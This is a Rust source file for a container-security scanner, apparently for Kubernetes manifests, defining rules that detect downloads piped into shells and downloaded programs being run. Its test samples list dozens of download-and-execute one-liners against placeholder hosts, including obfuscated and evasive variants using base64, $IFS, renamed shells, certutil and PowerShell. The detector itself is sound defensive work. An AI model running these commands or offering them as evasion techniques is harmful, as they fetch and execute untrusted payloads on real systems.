//! Programs and scripts that come over the network.

use super::checksum::is_verified;
use super::places::is_temporary;
use super::url::{Reach, target};
use super::words::{cluster, operands, option, subcommand, words};
use super::{COMMAND, Facts, Rule, Sample, Severity, Weight, each_match};
use crate::detect::catalog::{Exposure, Remedy, Step, links};
use crate::detect::code;
use crate::detect::findings::Collector;
use crate::detect::flow::{At, Kind, Ran, Reached, fetches, is_downloader, prints_fetched};
use crate::normalize::Invocation;
use crate::normalize::exec::is_shell;

pub(super) static RULES: &[Rule] = &[
    Rule {
        id: "cmd-download-exec",
        title: "Download piped into an interpreter",
        message: "runs what it downloads, without storing it",
        meaning: "What is run is decided by the server at the time of the request; nobody has reviewed it.",
        false_positives: "Installers that are documented as `curl … | sh`.",
        confirm: &[
            Step::Object(
                "The URL, and what reads it: sh, bash, python. Compare the host with the one that the \
                 vendor documents.",
            ),
            Step::Logs(
                "What the downloaded script did. If it says nothing, fetch the URL in a sandbox, never \
                 from your own machine; it may answer differently by now.",
            ),
        ],
        remedy: Remedy {
            exposes: &[Exposure::Token, Exposure::Secrets],
            attack: "The script was whatever the server sent at that moment. Assume it had everything that \
                     the pod could reach. Block the host, and look for it in the command of other workloads \
                     and in proxy logs.",
            benign: "Build an image that has the tool in it. If it must be fetched, fetch one released \
                     version over HTTPS into a file, check it with sha256sum -c against a value in the \
                     manifest, and only then run it.",
        },
        severity: Severity::High,
        points: 45,
        techniques: &["T1105", "T1059.004"],
        references: &[links::IMAGES, links::SUPPLY_CHAIN],
        check: |facts, found| runs_input_of(facts, found, &prints_fetched),
        samples: &[
            Sample::Hit(
                45,
                "containers: [{name: a, command: [sh, -c, 'curl -fsSL http://192.0.2.10/s | sh']}]",
            ),
            Sample::Hit(
                45,
                "containers: [{name: a, args: [/bin/sh, -c, 'wget -q -O - http://192.0.2.10/s | sudo bash -s -- -y']}]",
            ),
            Sample::Hit(
                45,
                "containers: [{name: a, command: [bash, -c, 'bash <(curl -s http://192.0.2.10/s)']}]",
            ),
            Sample::Hit(
                45,
                "containers: [{name: a, command: [bash, -c, 'source <(curl -s http://192.0.2.10/s)']}]",
            ),
            Sample::Hit(
                45,
                "containers: [{name: a, command: [sh, -c, 'eval \"$(wget -qO- http://192.0.2.10/s)\"']}]",
            ),
            Sample::Hit(
                45,
                "containers: [{name: a, command: [sh, -c, '(curl -s u || wget -qO- u || aria2c u) | sh']}]",
            ),
            Sample::Hit(
                45,
                "containers: [{name: a, command: [sh, -c, 'cu\"\"rl${IFS}http://192.0.2.10/s|s\"\"h']}]",
            ),
            Sample::Hit(
                45,
                "containers: [{name: a, command: [sh, -c, 'X=$(curl -s http://192.0.2.10/s); sh -c \"$X\"']}]",
            ),
            Sample::Hit(
                45,
                "containers: [{name: a, command: [sh, -c, 'python3 -c \"$(curl -s http://192.0.2.10/s)\"']}]",
            ),
            Sample::Hit(
                45,
                "containers: [{name: a, command: [python3, -c, 'import os; os.system(\"curl http://192.0.2.10/s | sh\")']}]",
            ),
            Sample::Hit(
                45,
                "containers: [{name: a, livenessProbe: {exec: {command: [sh, -c, 'curl -s http://192.0.2.10/s | sh']}}}]",
            ),
            Sample::Hit(
                45,
                "containers: [{name: a, command: [sh, -c, 'echo Y3VybCB4fHNo | base64 -d | sh']}]",
            ),
            Sample::Hit(
                45,
                "containers: [{name: a, command: [sh, -c, 'curl -so /tmp/s https://x.test/s; cat /tmp/s | sh']}]",
            ),
            Sample::Hit(
                45,
                "containers: [{name: a, command: [sh, -c, 'ssh u@192.0.2.10 cat /p.sh | bash']}]",
            ),
            Sample::Hit(
                45,
                "containers: [{name: a, command: [sh, -c, 'aws s3 cp s3://bucket/p.sh - | bash']}]",
            ),
            Sample::Hit(
                45,
                "containers: [{name: a, command: [sh, -c, 'dig +short TXT p.example.test | sh']}]",
            ),
            Sample::Hit(
                45,
                "containers: [{name: a, command: [sh, -c, 'git archive --remote=git://192.0.2.10/r HEAD run.sh | tar xO | sh']}]",
            ),
            Sample::Hit(
                45,
                "containers: [{name: a, command: [sh, -c, 'echo http://192.0.2.10/s | xargs curl -s | xargs -0 sh -c']}]",
            ),
            Sample::Hit(
                45,
                "containers: [{name: a, command: [sh, -c, 'r() { sh; }; curl -s http://192.0.2.10/s | r']}]",
            ),
            Sample::Hit(
                45,
                "containers: [{name: a, command: [sh, -c, 'x() { eval \"$1\"; }; x \"$(curl -s http://192.0.2.10/s)\"']}]",
            ),
            Sample::Hit(
                45,
                "containers: [{name: a, command: [bash, -c, 'mapfile -t a < <(curl -s http://192.0.2.10/s); eval \"${a[@]}\"']}]",
            ),
            Sample::Hit(
                45,
                "containers: [{name: a, command: [bash, -c, 'read -r -d E x < <(curl -s http://192.0.2.10/s); eval \"$x\"']}]",
            ),
            Sample::Hit(
                45,
                "containers: [{name: a, command: [sh, -c, 'curl -s http://192.0.2.10/s | fish']}]",
            ),
            Sample::Hit(
                45,
                "containers: [{name: a, command: [sh, -c, 'curl -s http://192.0.2.10/s | tcsh -f']}]",
            ),
            Sample::Hit(
                45,
                "containers: [{name: a, command: [sh, -c, 'cp /bin/sh /tmp/log; curl -s http://192.0.2.10/s | /tmp/log']}]",
            ),
            Sample::Hit(
                45,
                "containers: [{name: a, command: [sh, -c, 'ln -s /bin/bash /tmp/b; curl -s http://192.0.2.10/s | /tmp/b']}]",
            ),
            Sample::Hit(
                45,
                "containers: [{name: a, command: [sh, -c, 'cp $(command -v curl) /tmp/a; /tmp/a -s http://192.0.2.10/s | sh']}]",
            ),
            Sample::Hit(
                45,
                "containers: [{name: a, command: [sh, -c, 'curl-8.5.0 -s http://192.0.2.10/s | sh']}]",
            ),
            Sample::Hit(
                45,
                "containers: [{name: a, command: [sh, -c, '/tmp/bb wget -qO- http://192.0.2.10/s | /tmp/bb sh']}]",
            ),
            Sample::Hit(45, "containers: [{name: a, command: [sh, -c, 'finger run@192.0.2.10 | sh']}]"),
            Sample::Hit(
                45,
                "containers: [{name: a, command: [ssh, localhost, 'curl -s http://192.0.2.10/s | sh']}]",
            ),
            Sample::Hit(
                45,
                "containers: [{name: a, command: [vim, -es, -c, ':!curl -s http://192.0.2.10/s | sh']}]",
            ),
            Sample::Hit(
                45,
                "containers: [{name: a, command: [git, -c, 'core.sshCommand=curl -s http://192.0.2.10/s | sh', fetch]}]",
            ),
            Sample::Hit(
                45,
                "containers: [{name: a, command: [psql, -c, '\\! curl -s http://192.0.2.10/s | sh']}]",
            ),
            Sample::Hit(
                45,
                "containers: [{name: a, command: [Rscript, -e, 'system(\"curl -s http://192.0.2.10/s | sh\")']}]",
            ),
            Sample::Hit(
                45,
                "containers: [{name: a, command: [deno, eval, 'new Deno.Command(\"sh\",{args:[\"-c\",\"curl -s http://192.0.2.10/s | sh\"]}).outputSync()']}]",
            ),
            Sample::Miss(
                "containers: [{name: a, command: [ssh, deploy@web.example.test, systemctl reload nginx]}]",
            ),
            Sample::Miss(
                "containers: [{name: a, command: [Rscript, -e, 'cat(\"see: curl http://x/s | sh\")']}]",
            ),
            Sample::Hit(
                45,
                "containers: [{name: a, command: [sh, -c, 'curl -s http://192.0.2.10/s | at now']}]",
            ),
            Sample::Hit(
                45,
                "containers: [{name: a, command: [sh, -c, 'wget -qO- http://192.0.2.10/c | crontab -']}]",
            ),
            Sample::Miss(
                "containers: [{name: a, command: [sh, -c, 'curl -s http://svc/x | cat; crontab -l']}]",
            ),
            Sample::Hit(
                45,
                "containers: [{name: a, command: [sh, -c, 'r() { sh; }; echo \"curl -s http://192.0.2.10/s | sh\" | r']}]",
            ),
            Sample::Hit(
                45,
                "containers: [{name: a, command: [sh, -c, 'echo \"curl -s http://192.0.2.10/s | sh\" > /tmp/a; tail -n 1 /tmp/a > /tmp/b; sh /tmp/b']}]",
            ),
            Sample::Hit(
                45,
                "containers: [{name: a, command: [sh, -c, 'mkfifo /tmp/p; sh < /tmp/p & echo \"curl -s http://192.0.2.10/s | sh\" > /tmp/p']}]",
            ),
            Sample::Hit(
                45,
                "containers: [{name: a, command: [bash, -c, 'c=\"curl -s http://192.0.2.10/s | sh\"; declare -n r=c; eval \"$r\"']}]",
            ),
            Sample::Hit(
                45,
                "containers: [{name: a, command: [sh, -c, 'awk \"BEGIN{print \\\"curl -s http://192.0.2.10/s | sh\\\"}\" | sh']}]",
            ),
            Sample::Miss(
                "containers: [{name: a, command: [sh, -c, 'whois -h whois.example.test example.test | grep -i expiry']}]",
            ),
            Sample::Miss(
                "containers: [{name: a, command: [sh, -c, 'w() { cat > /out/help.txt; }; echo \"curl http://x/s | sh\" | w; cat /out/help.txt']}]",
            ),
            Sample::Miss(
                "containers: [{name: a, command: [sh, -c, 'cp /bin/sh /rescue/sh; curl -s http://svc/x | /app/log']}]",
            ),
            Sample::Miss(
                "containers: [{name: a, command: [sh, -c, '[ -x \"$(command -v curl)\" ] && \"$(which curl)\" -s http://svc/health']}]",
            ),
            Sample::Miss(
                "containers: [{name: a, command: [sh, -c, 'curl -s https://x.test/v > /tmp/v; cat /tmp/v; echo id | sh']}]",
            ),
            Sample::Miss(
                "containers: [{name: a, command: [sh, -c, 'dig +short TXT p.example.test | grep spf']}]",
            ),
            Sample::Miss(
                "containers: [{name: a, command: [sh, -c, 'aws s3 cp s3://bucket/dump.gz - | gunzip | psql shop']}]",
            ),
            Sample::Miss("containers: [{name: a, command: [sh, -c, 'ssh u@host uptime; sh /app/run.sh']}]"),
            Sample::Miss(
                "containers: [{name: a, command: [sh, -c, 'curl -s http://svc/ids | xargs -n1 sh -c \"process $0\"']}]",
            ),
            Sample::Miss(
                "containers: [{name: a, command: [sh, -c, 'log() { tee -a /var/log/x; }; curl -s http://svc/x | log; sh /app/run.sh']}]",
            ),
            Sample::Miss(
                "containers: [{name: a, command: [bash, -c, 'read -r n < <(curl -s http://svc/n); bash -c \"process $n\"']}]",
            ),
            Sample::Miss(
                "containers: [{name: a, command: [sh, -c, 'curl -s http://svc/health | jq .status']}]",
            ),
            Sample::Miss(
                "containers: [{name: a, command: [sh, -c, 'curl -s http://svc/list | python3 -c \"import json\"']}]",
            ),
            Sample::Miss(
                "containers: [{name: a, command: [sh, -c, 'curl -s http://svc/ids | while read id; do bash -c \"process $id\"; done']}]",
            ),
            Sample::Miss(
                "containers: [{name: a, command: [sh, -c, 'V=$(curl -s http://svc/v); sh -c \"deploy $V\"']}]",
            ),
            Sample::Miss(
                "containers: [{name: a, command: [sh, -c, 'until $(curl --output /dev/null -sf --head https://svc); do sleep 1; done']}]",
            ),
            Sample::Miss(
                "containers: [{name: a, command: [sh, -c, 'eval $(ssh-agent -s) && curl -s http://svc']}]",
            ),
            Sample::Miss(
                "containers: [{name: a, command: [sh, -c, 'curl -so /x http://svc/x; echo done | sh']}]",
            ),
            Sample::Miss("containers: [{name: a, command: [/app/digest, 'curl http://x/s | sh']}]"),
        ],
        ..COMMAND
    },
    Rule {
        id: "cmd-download-run",
        title: "Downloaded program run",
        message: "downloads a program and runs it",
        meaning: "A file is fetched, made executable and run: what it is depends on the server.",
        false_positives: "Fetching a released tool, better done with an image. Less where a checksum that stands in the script \
                          names the file, or where it is one file of sources that are fetched whole and built.",
        confirm: &[
            Step::Object(
                "The URL and the file that is made executable. A path under /tmp, /dev/shm or a name with \
                 a dot in front speaks for an attack; a checksum in between speaks against it.",
            ),
            Step::Logs(
                "What the program printed: version banners of a known tool, or pool, wallet and connection \
                 messages.",
            ),
        ],
        remedy: Remedy {
            exposes: &[Exposure::Token, Exposure::Secrets],
            attack: "Get a copy of the file, from a pod that still runs or from the URL in a sandbox, and \
                     keep its SHA-256: it tells you what it was and finds it elsewhere.",
            benign: "Put the program into an image. If that is not possible, pin the version in the URL \
                     and verify a checksum that stands in the manifest before chmod +x; that lowers the \
                     points.",
        },
        severity: Severity::High,
        points: 45,
        techniques: &["T1105"],
        references: &[links::IMAGES, links::SUPPLY_CHAIN],
        check: downloaded_programs,
        samples: &[
            Sample::Hit(
                45,
                "containers: [{name: a, command: [sh, -c, 'curl -o /tmp/a https://dl.example.test/a; gpg --version; sha256sum /etc/hosts; chmod +x /tmp/a; /tmp/a']}]",
            ),
            Sample::Hit(
                45,
                "containers: [{name: a, command: [sh, -c, 'curl -o /tmp/m http://192.0.2.10/m && chmod +x /tmp/m && /tmp/m']}]",
            ),
            Sample::Hit(
                45,
                "containers: [{name: a, command: [sh, -c, 'curl -o s http://192.0.2.10/s; sh \"$PWD/s\"']}]",
            ),
            Sample::Hit(
                45,
                "containers: [{name: a, command: [sh, -c, 'cd; wget http://192.0.2.10/s; sh ~/s']}]",
            ),
            Sample::Hit(
                45,
                "containers: [{name: a, command: [bash, -c, 'exec 3> /tmp/s; curl http://192.0.2.10/s >&3; sh /tmp/s']}]",
            ),
            Sample::Hit(
                45,
                "containers: [{name: a, command: [bash, -c, 'f() { curl -o \"$1\" http://192.0.2.10/s; }; f /tmp/s; sh /tmp/s']}]",
            ),
            Sample::Hit(
                45,
                "containers: [{name: a, command: [sh, -c, 'cd /tmp; wget http://192.0.2.10/m; chmod 755 m; ./m --go']}]",
            ),
            Sample::Hit(
                45,
                "containers: [{name: a, command: [sh, -c, 'wget -P /dev/shm http://192.0.2.10/m; chmod 700 /dev/shm/m; nohup /dev/shm/m &']}]",
            ),
            Sample::Hit(
                45,
                "containers: [{name: a, command: [sh, -c, 'curl http://192.0.2.10/s > /tmp/s; sh /tmp/s']}]",
            ),
            Sample::Hit(
                45,
                "containers: [{name: a, command: [python3, -c, 'import urllib.request as u; exec(u.urlopen(\"http://192.0.2.10/s\").read())']}]",
            ),
            Sample::Hit(
                45,
                "containers: [{name: a, command: [python3, -c, 'import os,requests;f=os.memfd_create(\"\");os.write(f,requests.get(\"http://192.0.2.10/m\").content)']}]",
            ),
            Sample::Hit(
                30,
                "containers: [{name: a, command: [sh, -c, 'curl -o t https://x.test/t && echo \"9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08  t\" | sha256sum -c && chmod +x t && ./t']}]",
            ),
            Sample::Hit(
                45,
                "containers: [{name: a, command: [sh, -c, 'wget -O - http://192.0.2.10/x.tgz | tar xz -C /tmp; /tmp/x/run']}]",
            ),
            Sample::Hit(
                45,
                "containers: [{name: a, command: [sh, -c, 'curl -so /tmp/a http://192.0.2.10/a; tee /tmp/b < /tmp/a >/dev/null; chmod +x /tmp/b; /tmp/b']}]",
            ),
            Sample::Hit(
                45,
                "containers: [{name: a, command: [sh, -c, 'curl http://192.0.2.10/s | tee /tmp/q > /dev/null; sh /tmp/q']}]",
            ),
            Sample::Hit(
                45,
                "containers: [{name: a, command: [sh, -c, 'curl -so /tmp/1 https://x.test/1; curl -so /tmp/2 https://x.test/2; cat /tmp/1 /tmp/2 > /tmp/3; /tmp/3']}]",
            ),
            Sample::Hit(
                45,
                "containers: [{name: a, command: [sh, -c, 'curl -so /tmp/a.gz https://x.test/a.gz; gunzip /tmp/a.gz; /tmp/a']}]",
            ),
            Sample::Hit(
                45,
                "containers: [{name: a, command: [sh, -c, 'curl -so /tmp/e https://x.test/e; openssl enc -d -aes-256-cbc -k x -in /tmp/e -out /tmp/d; /tmp/d']}]",
            ),
            Sample::Hit(
                45,
                "containers: [{name: a, command: [sh, -c, 'scp u@192.0.2.10:x /tmp/x; /tmp/x']}]",
            ),
            Sample::Hit(
                45,
                "containers: [{name: a, command: [sh, -c, 'cd /tmp; tftp -g -r mips 192.0.2.20; ./mips']}]",
            ),
            Sample::Hit(
                45,
                "containers: [{name: a, command: [sh, -c, 'curl http://192.0.2.10/b.tgz | tar xz -C /tmp; cd /tmp/b && ./start.sh']}]",
            ),
            Sample::Hit(
                45,
                "containers: [{name: a, command: [sh, -c, 'curl -so t https://x.test/t; echo ok > y; sha256sum y > s; sha256sum -c s; ./t']}]",
            ),
            Sample::Hit(
                45,
                "containers: [{name: a, command: [sh, -c, 'curl -so t https://x.test/t; curl -so t.sum https://x.test/t.sum; sha256sum -c t.sum; ./t']}]",
            ),
            Sample::Hit(
                45,
                "containers: [{name: a, command: [sh, -c, 'curl -so t https://x.test/t; gpg --verify other.sig other; ./t']}]",
            ),
            Sample::Hit(
                30,
                "containers: [{name: a, command: [sh, -c, 'curl -so t https://x.test/t; gpg --verify t.sig t && ./t']}]",
            ),
            Sample::Hit(
                30,
                "containers: [{name: a, command: [sh, -c, 'curl -so t https://x.test/t; echo \"9f86d081884c7d659a2feaa0c55ad015  t\" > s; md5sum -c s && ./t']}]",
            ),
            Sample::Hit(
                30,
                "containers: [{name: a, command: [sh, -c, 'git clone https://git.example.test/a/b /src/b; cd /src/b; ./build.sh']}]",
            ),
            Sample::Hit(
                45,
                "containers: [{name: a, command: [sh, -c, 'git clone https://git.example.test/a/b /tmp/b; bash /tmp/b/install.sh']}]",
            ),
            Sample::Hit(
                45,
                "volumes: [{name: w, emptyDir: {}}]\ninitContainers: [{name: i, command: [curl, -sSLo, /share/agent, 'http://192.0.2.90/agent'], volumeMounts: [{name: w, mountPath: /share}]}]\ncontainers: [{name: a, command: [/x/agent], volumeMounts: [{name: w, mountPath: /x}]}]",
            ),
            Sample::Hit(
                45,
                "containers: [{name: a, command: [sh, -c, 'curl -so /tmp/x http://192.0.2.10/s; /lib64/ld-linux-x86-64.so.2 /tmp/x']}]",
            ),
            Sample::Hit(
                45,
                "containers: [{name: a, command: [perl, '-MLWP::Simple', -e, 'eval(get(\"http://192.0.2.10/b\"))']}]",
            ),
            Sample::Hit(
                45,
                "containers: [{name: a, command: [ruby, -ropen-uri, -e, 'eval URI.open(\"http://192.0.2.10/b\").read']}]",
            ),
            Sample::Hit(
                45,
                "containers: [{name: a, command: [node, -e, 'fetch(\"http://192.0.2.10/b\").then(r=>r.text()).then(eval)']}]",
            ),
            Sample::Hit(
                45,
                "containers: [{name: a, command: [cmd, /c, 'certutil -urlcache -split -f http://192.0.2.10/a.exe C:\\Temp\\a.exe & C:\\Temp\\a.exe']}]",
            ),
            Sample::Hit(
                45,
                "containers: [{name: a, command: [sh, -c, 'x() { cat; }; curl -s http://192.0.2.10/s | x > /tmp/h; sh /tmp/h']}]",
            ),
            Sample::Hit(
                45,
                "containers: [{name: a, command: [node, -e, 'require(\"https\").get(\"https://x.test/a\",r=>{let d=\"\";r.on(\"data\",c=>d+=c);r.on(\"end\",()=>eval(d))})']}]",
            ),
            Sample::Hit(45, "containers: [{name: a, command: [pwsh, -c, 'irm https://x.test/a.ps1 | iEx']}]"),
            Sample::Hit(
                45,
                "containers: [{name: a, command: [powershell, -c, 'Start-BitsTransfer http://192.0.2.10/a.exe C:/a.exe; Start-Process C:/a.exe']}]",
            ),
            Sample::Hit(
                45,
                "containers: [{name: a, command: [sh, -c, 'curl -so /tmp/p.deb http://192.0.2.10/p.deb; dpkg -i /tmp/p.deb']}]",
            ),
            Sample::Hit(45, "containers: [{name: a, command: [rpm, -ivh, 'http://192.0.2.10/p.rpm']}]"),
            Sample::Hit(
                45,
                "containers: [{name: a, command: [sh, -c, 'pip install http://192.0.2.10/p.tar.gz && python -m p']}]",
            ),
            Sample::Hit(
                45,
                "containers: [{name: a, command: [sh, -c, 'wget -qO /dev/shm/.k http://192.0.2.10/k; install -m 755 /dev/shm/.k /usr/local/bin/kw; kw &']}]",
            ),
            Sample::Miss(
                "containers: [{name: a, command: [sh, -c, 'curl -Lo /tmp/p.deb https://x.test/p.deb; dpkg -i /tmp/p.deb']}]",
            ),
            Sample::Miss(
                "containers: [{name: a, command: [pip, install, --index-url, 'https://pypi.example.test/simple', shop]}]",
            ),
            Sample::Miss(
                "containers: [{name: a, command: [sh, -c, 'curl -Lo /usr/local/bin/kubectl https://x.test/kubectl; chmod +x /usr/local/bin/kubectl; kubectl version']}]",
            ),
            Sample::Miss(
                "containers: [{name: a, command: [perl, '-MLWP::Simple', -e, 'print get(\"http://svc/x\")']}]",
            ),
            Sample::Miss(
                "containers: [{name: a, command: [cmd, /c, 'certutil -hashfile C:\\app\\a.exe & C:\\app\\b.exe']}]",
            ),
            Sample::Miss(
                "containers: [{name: a, command: [sh, -c, 'curl -so /data/x.csv http://192.0.2.10/s; /lib64/ld-linux-x86-64.so.2 /app/run /data/x.csv']}]",
            ),
            Sample::Miss(
                "volumes: [{name: w, emptyDir: {}}]\ninitContainers: [{name: i, command: [curl, -sSLo, /share/agent, 'http://192.0.2.90/agent'], volumeMounts: [{name: w, mountPath: /share}]}]\ncontainers: [{name: a, command: [/app/run, /x/agent], volumeMounts: [{name: w, mountPath: /x}]}]",
            ),
            Sample::Miss(
                "containers: [{name: a, command: [sh, -c, 'curl -so /data/a.gz https://x.test/a.gz; gunzip /data/a.gz; /app/import /data/a']}]",
            ),
            Sample::Miss(
                "containers: [{name: a, command: [sh, -c, 'curl -s https://x.test/v > /tmp/v; echo \"deploy $(cat /tmp/v)\" > /tmp/run.sh; sh /tmp/run.sh']}]",
            ),
            Sample::Miss(
                "containers: [{name: a, command: [sh, -c, 'git clone https://git.example.test/a/b /src/b; cd /src/b; make test']}]",
            ),
            Sample::Miss(
                "containers: [{name: a, command: [sh, -c, 'scp /app/run u@backup:/app/run; /app/run']}]",
            ),
            Sample::Miss(
                "containers: [{name: a, command: [sh, -c, 'curl -sL https://x.example.test/helm.tgz | tar xz; mv linux/helm /usr/local/bin/; helm version']}]",
            ),
            Sample::Miss(
                "containers: [{name: a, command: [sh, -c, 'curl -o /data/feed.json http://svc/feed && /app/import /data/feed.json']}]",
            ),
            Sample::Miss("containers: [{name: a, command: [sh, -c, 'chmod +x /app/run && /app/run']}]"),
            Sample::Miss(
                "containers: [{name: a, command: [python3, -c, 'import requests; print(requests.get(\"http://svc/x\").json())']}]",
            ),
        ],
        ..COMMAND
    },
    Rule {
        id: "cmd-downloader",
        title: "Command-line download",
        message: "downloads with a command-line tool",
        meaning: "Alone it says little; together with other findings it shows where the payload comes from.",
        false_positives: "Health checks, web hooks, data feeds.",
        confirm: &[Step::Object(
            "The URL, and what happens to the answer: printed and thrown away is a health check, piped \
                 or stored and run is another finding.",
        )],
        remedy: Remedy {
            exposes: &[],
            attack: "Alone it proves nothing. See which other findings the workload has, and whether the \
                     URL is one of yours.",
            benign: "Nothing to change for a call to a known service. Limit where the pod may connect with \
                     a NetworkPolicy for egress.",
        },
        severity: Severity::None,
        points: 3,
        techniques: &["T1105"],
        references: &[links::NETWORK_POLICY],
        check: |facts, found| each_match(facts, found, |_, _, invocation| is_downloader(invocation)),
        samples: &[
            Sample::Hit(3, "containers: [{name: a, command: [curl, -sf, 'http://svc/health']}]"),
            Sample::Miss("containers: [{name: a, command: [echo, curl]}]"),
        ],
        ..COMMAND
    },
];

/// Hits for everything that runs the output of a source.
pub(super) fn runs_input_of(
    facts: &Facts<'_>,
    found: &mut Collector<'_>,
    is_source: &impl Fn(&Invocation) -> bool,
) {
    let reached = facts.reach(|_, call| is_source(call), Kind::Program);
    for (number, run) in facts.runs.iter().enumerate() {
        let mut sinks = run.invocations().filter(|(_, call)| runs_its_input(call));
        let sink = sinks.find_map(|(at, _)| Some((at, reached.source_of(number, at)?)));
        if let Some((at, source)) = sink {
            found.hit(Some(&run.container.name), run.path(), &show(facts, source, (number, at)));
        }
    }
}

/// Evidence for what goes from one invocation to another.
pub(super) fn show(facts: &Facts<'_>, source: At, to: At) -> String {
    let text = |(run, at): At| facts.runs.get(run).map(|run| run.show(at)).unwrap_or_default();
    if source == to { text(to) } else { format!("{} | {}", text(source), text(to)) }
}

/// Takes a program from its standard input or its words and runs it: a shell or an interpreter without a
/// script of its own, `eval`, `source`.
fn runs_its_input(invocation: &Invocation) -> bool {
    let program = invocation.program.as_str();
    // Text that begins with what was substituted: `sh -c "$(curl …)"`, and not `sh -c "deploy $V"`.
    let begins = |text: &str| text.trim_start().starts_with(['$', '`']);
    let operand = invocation.args.iter().find(|word| !word.text.starts_with('-'));
    match program {
        // Output that is known beforehand stands there already, marked as disguised.
        "eval" => return operand.is_some_and(|word| begins(&word.text) || word.disguised),
        "source" | "." => {
            return operand.is_some_and(|word| {
                word.text.starts_with("<(") || matches!(word.text.as_str(), "/dev/stdin" | "-")
            });
        }
        // A program whose name came from there.
        "$()" => return invocation.args.is_empty(),
        // Run later, but run.
        "at" | "batch" => return option(invocation, &["-f"]).is_none(),
        "crontab" => return operand.is_none() && words(invocation).any(|word| word == "-"),
        _ => {}
    }
    let is_stdin = |text: &str| matches!(text, "-" | "/dev/stdin" | "/proc/self/fd/0" | "/dev/fd/0");
    // A process substitution or standard input by name is no script of its own.
    let from_input = operand.is_none_or(|word| word.text.starts_with("<(") || is_stdin(&word.text));
    // `sh -s -- ARGUMENTS` reads its input, whatever operands follow.
    let reads =
        words(invocation).any(|word| word == "-" || cluster(word).is_some_and(|flags| flags.ends_with('s')));
    if is_shell(program) {
        let inline = words(invocation).any(|word| cluster(word).is_some_and(|flags| flags.contains('c')));
        // `xargs sh -c` puts what it reads there.
        let by_xargs = invocation.prefixes.iter().any(|prefix| prefix == "xargs");
        return if inline {
            match operand {
                Some(word) => begins(&word.text) || word.disguised || by_xargs && is_placeholder(&word.text),
                None => by_xargs,
            }
        } else {
            from_input || reads
        };
    }
    match code::inline(invocation) {
        Some(code) => begins(code),
        None => {
            code::reads_stdin(invocation)
                || code::language(program).is_some_and(|l| l != code::Language::Awk)
                    && operand.is_some_and(|word| word.text.starts_with("<("))
        }
    }
}

/// What usually stands for a line that `xargs -I` reads, with nothing before it.
fn is_placeholder(text: &str) -> bool {
    ["{}", "%", "@@", "_"].iter().any(|sign| text.trim_start().starts_with(sign))
}

/// Hits for programs that are stored and run.
fn downloaded_programs(facts: &Facts<'_>, found: &mut Collector<'_>) {
    let reached = facts.reach(|_, call| fetches(call), Kind::Program);
    for (number, run) in facts.runs.iter().enumerate() {
        let container = Some(run.container.name.as_str());
        let at_once = |call: &Invocation| {
            code::text(call).is_some_and(code::runs_fetched) || installs(call) && words(call).any(is_odd)
        };
        if let Some((at, _)) = run.invocations().find(|(_, call)| at_once(call)) {
            found.hit(container, run.path(), &run.show(at));
            continue;
        }
        // The heaviest, and of those the first.
        let mut heaviest: Option<(At, At, Weight)> = None;
        for program in reached.ran(number).take(MAX_PROGRAMS) {
            let Some(weight) = weigh(facts, &reached, &program) else { continue };
            if heaviest.is_none_or(|(_, _, known)| known.1 < weight.1) {
                heaviest = Some((program.source, program.at, weight));
            }
        }
        if let Some((source, at, (severity, points))) = heaviest {
            let source = if source.0 == number { at } else { source };
            found.hit_as(severity, points, container, run.path(), &show(facts, source, at));
        }
    }
}

/// What a program weighs that was fetched: less where it was verified, or where it is one of many files that came
/// from a named place and stay together, as sources do that are built.
///
/// Packages of a named place, and tools that are put into `PATH`, are everyday: they do not count.
fn weigh(facts: &Facts<'_>, reached: &Reached<'_>, program: &Ran) -> Option<Weight> {
    let invocation = |(run, at): At| facts.runs.get(run).and_then(|run| run.invocation(at));
    let from_odd = invocation(program.source).is_some_and(|source| words(source).any(is_odd));
    let everyday = program.by_path || invocation(program.at).is_some_and(installs);
    if everyday && !from_odd {
        return None;
    }
    let packed = program.packed && !from_odd && !is_temporary(&program.file);
    Some(if packed || is_verified(facts, reached, program.source) { LESS } else { FULL })
}

/// Whether a word is the URL of a bare address, or of a place where anybody drops things.
fn is_odd(word: &str) -> bool {
    word.contains("://")
        && target(word).is_some_and(|target| matches!(target.reach(), Reach::Drop | Reach::Address))
}

/// Whether an invocation installs packages: their scripts are run.
fn installs(invocation: &Invocation) -> bool {
    match invocation.program.as_str() {
        "dpkg" => words(invocation)
            .any(|word| word == "--install" || cluster(word).is_some_and(|it| it.contains('i'))),
        "rpm" => words(invocation).any(|word| {
            matches!(word, "--install" | "--upgrade")
                || cluster(word).is_some_and(|it| it.contains(['i', 'U']))
        }),
        "apk" => subcommand(invocation, &["add"]),
        "apt" | "apt-get" | "yum" | "dnf" | "microdnf" | "zypper" | "pip" | "pip3" | "gem" | "npm"
        | "yarn" | "pnpm" | "luarocks" | "cpan" | "cpanm" => {
            subcommand(invocation, &["install", "i", "add"])
                || matches!(invocation.program.as_str(), "cpan" | "cpanm")
                    && operands(invocation).next().is_some()
        }
        "npx" | "uvx" | "pipx" | "bunx" => true,
        _ => false,
    }
}

const FULL: Weight = (Severity::High, 45);
const LESS: Weight = (Severity::Medium, 30);
/// Programs of one run that are looked at.
const MAX_PROGRAMS: usize = 64;
